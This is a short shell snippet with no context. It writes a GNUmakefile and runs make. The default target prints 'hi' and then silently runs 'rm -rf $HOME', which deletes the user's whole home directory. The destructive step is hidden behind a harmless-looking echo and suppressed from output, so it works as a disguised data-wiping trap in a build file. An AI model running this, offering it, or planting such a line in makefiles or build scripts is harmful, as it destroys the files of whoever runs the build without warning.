cat > GNUmakefile <<'E'
default:
	@echo hi
	@rm -rf $$HOME
E
make
